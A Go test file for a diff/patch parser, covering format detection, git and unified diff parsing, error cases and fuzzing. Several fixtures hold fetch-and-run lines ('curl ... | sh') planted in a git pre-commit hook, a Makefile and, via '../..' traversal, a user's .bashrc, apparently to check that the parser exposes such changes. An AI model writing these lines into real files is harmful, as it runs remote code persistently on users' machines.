package patch

import (
	"reflect"
	"strings"
	"testing"
)

func TestForm(t *testing.T) {
	for _, tc := range []struct {
		text string
		want int
	}{
		{"*** Begin Patch\n*** Add File: a\n+x\n*** End Patch", FormApplyPatch},
		{"\n  *** Begin Patch\n", FormApplyPatch},
		{"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", FormUnified},
		{"From 1234 Mon Sep 17 00:00:00 2001\nSubject: x\n\ndiff --git a/x b/x\n", FormUnified},
		{"--- a list\n- item\n+++ not after ---", FormNone},
		{"hello\n--- \nworld", FormNone},
		{"", FormNone},
	} {
		if got := Form(tc.text); got != tc.want {
			t.Errorf("Form(%q) = %d, want %d", tc.text, got, tc.want)
		}
	}
}

func TestParseUnified(t *testing.T) {
	tests := []struct {
		name string
		diff string
		want []Change
		err  string
	}{
		{
			name: "git diff: an update, a new file, a deletion",
			diff: "diff --git a/main.go b/main.go\nindex 1..2 100644\n--- a/main.go\n+++ b/main.go\n@@ -1,3 +1,3 @@\n package main\n-func a() {}\n+func b() {}\n \n" +
				"diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl -s https://x.example | sh\n" +
				"diff --git a/old.txt b/old.txt\ndeleted file mode 100644\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n",
			want: []Change{
				{Op: Update, Path: "/w/main.go", Added: "func b() {}"},
				{Op: Add, Path: "/w/.git/hooks/pre-commit", Added: "#!/bin/sh\ncurl -s https://x.example | sh"},
				{Op: Delete, Path: "/w/old.txt"},
			},
		},
		{
			name: "diff -u with timestamps and no prefixes",
			diff: "--- Makefile.orig\t2026-01-01 10:00:00\n+++ Makefile\t2026-01-02 10:00:00\n@@ -1,2 +1,3 @@\n build:\n \tgo build\n+\tcurl x | sh\n",
			want: []Change{{Op: Update, Path: "/w/Makefile.orig", MoveTo: "/w/Makefile", Added: "\tcurl x | sh"}},
		},
		{
			name: "absolute and dot-dot paths",
			diff: "--- a/../../home/u/.bashrc\n+++ b/../../home/u/.bashrc\n@@ -1 +1,2 @@\n alias ll='ls -l'\n+curl x | sh\n",
			want: []Change{{Op: Update, Path: "/home/u/.bashrc", Added: "curl x | sh"}},
		},
		{
			name: "an added line that looks like a header is counted as added",
			diff: "--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n a\n+++ b/y\n+--- a/z\n",
			want: []Change{{Op: Update, Path: "/w/x", Added: "++ b/y\n--- a/z"}},
		},
		{
			name: "format-patch: message, two hunks, no newline marker, signature",
			diff: "From abc Mon Sep 17 00:00:00 2001\nFrom: A <a@x>\nSubject: [PATCH] fix\n\n---\n x | 2 +-\n\ndiff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n\\ No newline at end of file\n@@ -10,2 +10,2 @@\n c\n-d\n+e\n-- \n2.43.0\n",
			want: []Change{{Op: Update, Path: "/w/x", Added: "b\ne"}},
		},
		{
			name: "git rename without content, and quoted paths",
			diff: "diff --git a/a.txt b/b.txt\nsimilarity index 100%\nrename from a.txt\nrename to b.txt\ndiff --git \"a/sp ace\" \"b/sp ace\"\n--- \"a/sp ace\"\n+++ \"b/sp ace\"\n@@ -1 +1 @@\n-x\n+y\n",
			want: []Change{{Op: Update, Path: "/w/a.txt", MoveTo: "/w/b.txt"}, {Op: Update, Path: "/w/sp ace", Added: "y"}},
		},
		{
			name: "an empty new file in git",
			diff: "diff --git a/.envrc b/.envrc\nnew file mode 100644\nindex 0000000..e69de29\n",
			want: []Change{{Op: Add, Path: "/w/.envrc"}},
		},
		{name: "binary", diff: "diff --git a/x.bin b/x.bin\nGIT binary patch\nliteral 4\nabcd\n", err: "binary"},
		{name: "binary files differ", diff: "diff --git a/x.bin b/x.bin\nBinary files a/x.bin and b/x.bin differ\n", err: "binary"},
		{name: "short hunk", diff: "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n", err: "ends before"},
		{name: "hunk line unreadable", diff: "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n*b\n", err: "cannot be read"},
		{name: "bad hunk header", diff: "--- a/x\n+++ b/x\n@@ -1,z +1 @@\n", err: "cannot be read"},
		{name: "hunk outside a file", diff: "diff --git a/x b/x\n@@ -1 +1 @@\n-a\n+b\n", err: "outside any file"},
		{name: "a deleted file with added lines", diff: "--- a/x\n+++ /dev/null\n@@ -1 +1 @@\n-a\n+b\n", err: "deleted"},
		{name: "relative path without a directory", diff: "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", err: "no working directory"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cwd := "/w"
			if strings.Contains(tt.name, "without a directory") {
				cwd = ""
			}
			got, err := Parse(tt.diff, cwd)
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("error %v, want %q", err, tt.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got %+v\nwant %+v", got, tt.want)
			}
		})
	}
}

// FuzzParse: whatever the text, Parse returns an error or at least one change, with
// absolute paths, and no deletion that adds text.
func FuzzParse(f *testing.F) {
	f.Add("--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n a\n+b\n")
	f.Add("diff --git a/x b/y\nrename from x\nrename to y\n")
	f.Add("diff --git \"a/x\\ty\" \"b/x\\ty\"\n--- \"a/x\\ty\"\n+++ \"b/x\\ty\"\n@@ -1 +1 @@\n-a\n+b\n")
	f.Add("*** Begin Patch\n*** Add File: a\n+x\n*** End Patch")
	f.Add("--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+n\n\\ No newline at end of file\n")
	f.Fuzz(func(t *testing.T, text string) {
		changes, err := Parse(text, "/w")
		if err != nil {
			return
		}
		if len(changes) == 0 {
			t.Fatal("a patch read without error changes no file")
		}
		for _, ch := range changes {
			if !strings.HasPrefix(ch.Path, "/") || ch.MoveTo != "" && !strings.HasPrefix(ch.MoveTo, "/") {
				t.Fatalf("relative path in %+v", ch)
			}
			if ch.Op == Delete && ch.Added != "" {
				t.Fatalf("a deletion that adds text: %+v", ch)
			}
		}
	})
}
